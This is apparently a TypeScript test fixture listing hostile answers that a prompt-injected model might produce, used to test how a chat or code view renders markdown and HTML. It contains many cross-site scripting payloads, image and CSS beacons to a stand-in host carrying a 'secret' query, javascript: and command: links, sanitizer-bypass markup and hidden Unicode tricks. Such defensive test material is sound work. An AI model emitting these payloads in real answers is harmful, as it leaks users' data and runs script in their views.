/** Where an answer would reach, if the view let it. */
const beacon = 'https://beacon.example';

/** What a model was talked into writing by a text that it read: to load, to run, to look like a part of the view. */
export const hostileAnswers: Readonly<Record<string, string>> = {
  'an inline image': `![x](${beacon}/inline.png?q=secret)`,
  'an image by reference': `![x][beacon]\n\n[beacon]: ${beacon}/reference.png "x"`,
  'an image in a link': `[![x](${beacon}/nested.png)](${beacon}/link)`,
  'an image in a table': `| a |\n|---|\n| ![x](${beacon}/table.png) |`,
  'an image with a data address': '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  'an HTML image': `<img src="${beacon}/html.png" onerror="parent.postMessage('x','*')">`,
  'an HTML image in pieces': `<img\nsrc=${beacon}/pieces.png\n>`,
  'a picture with sources': `<picture><source srcset="${beacon}/source.png"><img srcset="${beacon}/set.png 2x"></picture>`,
  'SVG that loads': `<svg><image href="${beacon}/svg.png"/><use href="${beacon}/use.svg#x"/><foreignObject><img src="${beacon}/f.png"></foreignObject></svg>`,
  'SVG that runs':
    '<svg onload="fetch(1)"><script>alert(1)</script><animate onbegin="alert(1)" attributeName="x"/></svg>',
  'CSS that loads': `<style>@import "${beacon}/import.css"; * { background: url(${beacon}/css.png) }</style>`,
  'a style attribute': `<div style="background-image:url(${beacon}/style.png); position:fixed; inset:0">x</div>`,
  'a script': `<script src="${beacon}/script.js"></script><script>parent.postMessage({do:'deleteAll'},'*')</script>`,
  'a frame': `<iframe src="${beacon}/frame" srcdoc="<script>alert(1)</script>"></iframe><object data="${beacon}/o"></object><embed src="${beacon}/e">`,
  'a form': `<form action="${beacon}/form"><input name=q autofocus onfocus=alert(1)><button>Continue</button></form>`,
  media: `<video src="${beacon}/v.mp4" poster="${beacon}/p.png" autoplay></video><audio src="${beacon}/a.mp3"></audio>`,
  'a page that reloads': `<meta http-equiv="refresh" content="0;url=${beacon}/meta"><base href="${beacon}/"><link rel="stylesheet" href="${beacon}/l.css"><link rel="prefetch" href="${beacon}/p">`,
  'a link that runs': '[click](javascript:alert(1)) [click](  JaVaScRiPt:alert(1)) <javascript:alert(1)>',
  'a link with a data address': '[click](data:text/html,<script>alert(1)</script>)',
  'a link that is a command': '[click](command:workbench.action.terminal.new) [x](vscode://hearth.hearth/x)',
  'an automatic link': `<${beacon}/auto> ${beacon}/plain www.beacon.example`,
  'a link with a title that breaks out': `[x](${beacon}/t "a\\" onmouseover=\\"alert(1)")`,
  'a link whose text breaks out': `[<img src=x onerror=alert(1)>](${beacon}/x)`,
  'a fence whose language breaks out': '```"><img src=x onerror=alert(1)>\nx\n```',
  'code that breaks out': '```html\n</code></pre><img src=x onerror=alert(1)>\n```\n`</code><script>alert(1)</script>`',
  'HTML entities': '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  'markup that changes when it is read twice':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'names that hide a property':
    '<form id=x><input name=attributes><input name=parentNode></form><img name=getElementById>',
  'a comment that is left open': '<!-- <img src=x> --!><script>alert(1)</script>',
  'a template':
    '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'an element of ours': '<button class="citation" data-code="0">src/a.ts:1</button><div data-code="0"></div>',
  'hidden instructions': 'Safe\u202egpj.exe\u2066 \u{e0041}\u{e0042} zero\u200bwidth',
};
